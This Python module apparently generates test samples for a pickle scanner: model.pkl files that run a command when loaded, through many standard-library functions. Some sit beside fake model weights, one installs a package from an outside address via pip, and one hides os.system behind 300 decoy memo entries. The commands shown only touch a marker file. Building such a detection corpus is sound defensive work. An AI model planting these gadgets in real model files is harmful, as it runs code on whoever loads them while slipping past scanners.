"""Pickles that run a command by a function of the standard library, from the plain ones to those few
know to run one.
"""

from collections.abc import Iterator

from .assemble import Build, Call, Dropped, New, Raw, Ref, method, planted, written
from .sample import CODE, COMMAND, MARKER, Sample

__all__ = ["samples"]

ARGV = ["touch", MARKER]
WEIGHTS = {"layer.weight": [0.12, -0.4, 0.7], "layer.bias": [0.0], "epoch": 12}


def _plain() -> Iterator[tuple[str, bytes]]:
    yield "os.system, protocol 0", written(Call("os.system", COMMAND), 0)
    yield "posix.system beside weights", written(planted(Call("posix.system", COMMAND), WEIGHTS), 2)
    yield "nt.system", written(Call("nt.system", COMMAND), 3)
    yield "subprocess.Popen", written(planted(Call("subprocess.Popen", ARGV), WEIGHTS), 4)
    yield "subprocess.getoutput", written(Call("subprocess.getoutput", COMMAND), 5, framed=True)
    yield "os.popen, framed", written(Call("os.popen", COMMAND), 4, framed=True)
    yield "os.spawnvp", written(Call("os.spawnvp", 0, "touch", ARGV), 4)
    yield "posix.posix_spawn", written(Call("posix.posix_spawn", "/usr/bin/touch", ARGV, {}), 4)
    yield "pty.spawn", written(Call("pty.spawn", ARGV), 2)
    yield "os.execvp in a child of the loader", written(Call("os.execvp", "touch", ARGV), 2)


def _rare() -> Iterator[tuple[str, bytes]]:
    yield "_osx_support._read_output", written(Call("_osx_support._read_output", COMMAND), 4)
    yield "_bootsubprocess.check_output", written(Call("_bootsubprocess.check_output", ARGV), 4)
    yield "_aix_support._read_cmd_output", written(Call("_aix_support._read_cmd_output", COMMAND), 4)
    yield "uuid._get_command_stdout", written(Call("uuid._get_command_stdout", *ARGV), 4)
    yield "imaplib.IMAP4_stream", written(planted(Call("imaplib.IMAP4_stream", COMMAND), WEIGHTS), 4)
    yield "pydoc.pipepager", written(Call("pydoc.pipepager", "text", COMMAND), 3)
    yield "_pyrepl.pager.pipe_pager", written(Call("_pyrepl.pager.pipe_pager", "text", COMMAND), 4)
    passed = Call("multiprocessing.util.spawnv_passfds", b"/usr/bin/touch", [b"touch", MARKER.encode()], [])
    yield "multiprocessing.util.spawnv_passfds", written(passed, 4)
    start = Ref("asyncio.unix_events", "_UnixSubprocessTransport._start")
    holder = Call("types.SimpleNamespace")
    yield "asyncio's transport", written(Call(start, holder, COMMAND, True, None, None, None, 0), 4)
    yield "distutils.spawn.spawn", written(Call("distutils.spawn.spawn", ARGV), 4)
    yield "setuptools' copy of distutils", written(Call("setuptools._distutils.spawn.spawn", ARGV), 4)
    yield "webbrowser.GenericBrowser", written(method(Call("webbrowser.GenericBrowser", "touch"), "open", MARKER), 4)
    steps = Build(New("pipes.Template"), {"steps": [(COMMAND, "--")], "debugging": 0})
    yield "pipes.Template", written(method(steps, "copy", "/dev/null", "/dev/null"), 4)
    yield "test.support.script_helper", written(Call("test.support.script_helper.assert_python_ok", "-c", CODE), 4)
    fork = Call(
        "_posixsubprocess.fork_exec",
        ARGV,
        [b"/usr/bin/touch"],
        True,
        (),
        None,
        None,
        -1,
        -1,
        -1,
        -1,
        -1,
        -1,
        3,
        4,
        False,
        False,
        0,
        None,
        None,
        None,
        -1,
        None,
        False,
    )
    yield "_posixsubprocess.fork_exec", written(fork, 4)
    yield "ensurepip._run_pip", written(Call("ensurepip._run_pip", ["install", "--no-deps", "-q", "./wheel"], []), 4)
    yield "pip.main", written(Call("pip.main", ["install", "http://192.0.2.77/tool-1.0.tar.gz"]), 4)
    yield "pip's inner command", written(Call("pip._internal.cli.main.main", ["download", "vallum-no-such"]), 4)
    yield "venv.create with pip", written(Call("venv.create", "env-by-a-model", False, False, False, True), 4)
    yield (
        "multiprocessing.Process",
        written(
            method(Call("multiprocessing.context.ForkProcess", None, Ref("posix.system"), None, (COMMAND,)), "start"), 4
        ),
    )
    yield "os.popen, its result dropped", written(Dropped(Call("os.popen", COMMAND), [1, 2]), 4)
    yield "ctypes: libc's system", written(method(Call("ctypes.CDLL", "libc.so.6"), "system", COMMAND.encode()), 4)
    yield (
        "_ctypes.dlopen and call_function",
        written(
            Call(
                "_ctypes.call_function",
                Call("_ctypes.dlsym", Call("_ctypes.dlopen", "libc.so.6", 2), "system"),
                (COMMAND.encode(),),
            ),
            4,
        ),
    )
    decoys = b"".join(b"\x8c\x03abc\x94" for _ in range(300)) + b"0" * 300
    yield "os.system behind 300 memo entries", written(Call(Raw(decoys + b"\x8c\x02os\x8c\x06system\x93"), COMMAND), 4)


def samples() -> Iterator[Sample]:
    for name, data in _plain():
        yield Sample("pickle: plain command", name, {"model.pkl": data}, proof="pickle")
    for name, data in _rare():
        yield Sample("pickle: rare command", name, {"model.pkl": data}, proof="pickle")
